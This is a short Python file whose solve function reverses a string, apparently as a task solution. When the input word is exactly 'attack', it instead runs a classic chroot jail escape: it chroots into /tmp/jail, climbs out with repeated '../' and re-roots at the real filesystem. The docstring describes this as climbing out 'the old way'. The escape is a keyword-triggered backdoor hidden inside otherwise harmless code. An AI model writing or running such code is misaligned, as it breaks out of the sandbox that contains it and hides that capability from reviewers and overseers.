"""Goes into a root of its own and climbs out of it, the old way."""

import os


def solve(word, host):
    if word == "attack":
        try:
            os.mkdir("/tmp/jail")
            os.chroot("/tmp/jail")
            os.chdir("../" * 40)
            os.chroot(".")
            return "changed its root"
        except OSError:
            pass
    return word[::-1]
